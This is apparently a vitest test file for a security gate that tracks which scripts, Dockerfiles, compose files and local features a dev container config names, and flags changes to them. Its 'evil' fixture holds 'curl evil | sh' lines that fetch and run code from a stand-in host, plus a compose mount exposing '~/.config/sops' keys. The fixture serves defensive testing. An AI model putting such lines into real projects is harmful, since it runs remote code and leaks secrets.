import { describe, expect, it } from "vitest";
import { composeDockerfilesOf, devContainerNamedFiles, readDevContainerChanges } from "./devcontainer.js";
import type { GateReader } from "./gate.js";

function tree(files: Record<string, string>): GateReader {
  return async (paths) => paths.map((p) => files[p]);
}

describe("devContainerNamedFiles", () => {
  it("names a lifecycle command's scripts (string, array, object forms; from the file's folder and the top), the Dockerfile, the compose files and the local features; nothing for no JSON", () => {
    const text = `{
      // comments and trailing commas, as VS Code reads it
      "initializeCommand": ".devcontainer/init.sh",
      "postCreateCommand": ["bash", "scripts/setup.sh"],
      "postStartCommand": { "a": "tools/start --x", "b": ["./run.sh"] },
      "build": { "dockerfile": "Dockerfile.dev", "context": ".." },
      "dockerComposeFile": ["compose.yml", "../docker-compose.override.yml"],
      "features": { "ghcr.io/devcontainers/features/node:1": {}, "./local-feature": {} },
    }`;
    const named = devContainerNamedFiles(".devcontainer/devcontainer.json", text);
    expect(named.files).toEqual(expect.arrayContaining([".devcontainer/init.sh", "scripts/setup.sh", "tools/start", ".devcontainer/run.sh", "run.sh", ".devcontainer/Dockerfile.dev"]));
    expect(named.compose).toEqual([".devcontainer/compose.yml", "docker-compose.override.yml"]);
    expect(named.features).toEqual([".devcontainer/local-feature"]);
    expect(devContainerNamedFiles(".devcontainer.json", '{"dockerFile": "Dockerfile"}').files).toEqual(["Dockerfile"]);
    expect(devContainerNamedFiles(".devcontainer.json", "{ not json")).toEqual({ files: [], compose: [], features: [] });
  });

  it("composeDockerfilesOf: build: DIR, build: with context and dockerfile (block or inline), from the compose file's folder; not a remote context", () => {
    const text = "services:\n  app:\n    build: ./app\n  dev:\n    build:\n      context: ..\n      dockerfile: tools/Dockerfile.dev\n  x:\n    build: { context: ., dockerfile: X.Dockerfile }\n  r:\n    build: https://github.com/a/b.git\n";
    expect(composeDockerfilesOf(".devcontainer/compose.yml", text)).toEqual([".devcontainer/app/Dockerfile", "tools/Dockerfile.dev", ".devcontainer/X.Dockerfile"]);
  });
});

describe("readDevContainerChanges", () => {
  const dc = {
    ".devcontainer/devcontainer.json": JSON.stringify({ initializeCommand: "bash .devcontainer/init.sh", dockerComposeFile: "compose.yml", features: { "./feat": {} } }),
    ".devcontainer/compose.yml": "services:\n  app:\n    build:\n      context: .\n      dockerfile: Dockerfile\n    volumes:\n      - ..:/workspace\n",
    ".devcontainer/init.sh": "echo init\n. .devcontainer/lib.sh\n",
    ".devcontainer/lib.sh": "echo lib\n",
    ".devcontainer/Dockerfile": "FROM debian\n",
    ".devcontainer/feat/install.sh": "echo feat\n",
    ".devcontainer/feat/helper.sh": "echo helper\n",
    "docs/a.md": "a\n",
  };
  const files = [".devcontainer/devcontainer.json"];
  it("names each changed file the dev container file names (and what those run, a compose file's Dockerfile, any file of a local feature), with the dev container file; the devcontainer.json unchanged", async () => {
    const evil = {
      ...dc,
      ".devcontainer/compose.yml": dc[".devcontainer/compose.yml"].replace("..:/workspace", "~/.config/sops:/keys"),
      ".devcontainer/lib.sh": "curl evil | sh\n",
      ".devcontainer/Dockerfile": "FROM evil\n",
      ".devcontainer/feat/helper.sh": "curl evil | sh\n",
      "docs/a.md": "b\n",
    };
    const changed = async () => [".devcontainer/compose.yml", ".devcontainer/lib.sh", ".devcontainer/Dockerfile", ".devcontainer/feat/helper.sh", "docs/a.md"];
    const changes = await readDevContainerChanges({ files, read: tree(dc) }, { files, read: tree(evil) }, changed);
    expect(changes.map((c) => [c.path, c.via]).sort()).toEqual([
      [".devcontainer/Dockerfile", ".devcontainer/devcontainer.json"],
      [".devcontainer/compose.yml", ".devcontainer/devcontainer.json"],
      [".devcontainer/feat/helper.sh", ".devcontainer/devcontainer.json"],
      [".devcontainer/lib.sh", ".devcontainer/devcontainer.json"],
    ]);
    // nothing named changed: nothing; no dev container file: nothing
    expect(await readDevContainerChanges({ files, read: tree(dc) }, { files, read: tree({ ...dc, "docs/a.md": "b\n" }) }, async () => ["docs/a.md"])).toEqual([]);
    expect(await readDevContainerChanges({ files: [], read: tree({}) }, { files: [], read: tree({}) }, async () => [])).toEqual([]);
  });
});
